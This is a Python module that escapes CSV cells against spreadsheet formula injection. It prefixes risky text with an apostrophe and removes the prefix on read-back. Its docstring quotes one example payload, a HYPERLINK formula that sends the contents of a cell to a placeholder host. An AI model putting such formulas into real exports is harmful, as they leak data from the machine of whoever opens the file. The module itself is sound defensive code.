"""Text cells of the CSV files mcalc writes, made safe to open in a spreadsheet.

Excel, LibreOffice and Google Sheets take a cell that starts with ``=``, ``+``, ``-`` or
``@`` (also after a tab or carriage return) for a formula: a comment typed by one reader,
``=HYPERLINK("http://x/?"&A2, "see")``, ran on the machine of whoever opened the audit
export (OWASP "CSV injection"). Such a cell is written with a leading ``'``, which makes
the spreadsheet take it for text (OWASP's advice); :func:`unescape_cell` takes it off
again when mcalc reads its own CSV back.

Example:
    >>> escape_cell("=1+1"), escape_cell("-0.5"), escape_cell("benign")
    ("'=1+1", "'-0.5", 'benign')
    >>> unescape_cell(escape_cell("=1+1"))
    '=1+1'
"""

from __future__ import annotations

from typing import Any

import pandas as pd

__all__ = ["escape_cell", "unescape_cell", "escape_frame"]

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value: Any) -> Any:
    """``value`` with a ``'`` before it when it is text a spreadsheet would run; anything
    else (numbers, ``None``) as it is."""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def unescape_cell(value: str) -> str:
    """The text :func:`escape_cell` escaped, as it was; other text as it is."""
    if value.startswith("'") and value[1:].startswith(_FORMULA_START):
        return value[1:]
    return value


def escape_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are escaped (:func:`escape_cell`); numeric
    columns are left as they are (a negative score stays a number)."""
    out = frame.copy()
    for name in out.columns:
        if not pd.api.types.is_numeric_dtype(out[name]) and not pd.api.types.is_bool_dtype(
            out[name]
        ):
            out[name] = out[name].map(escape_cell)
    return out
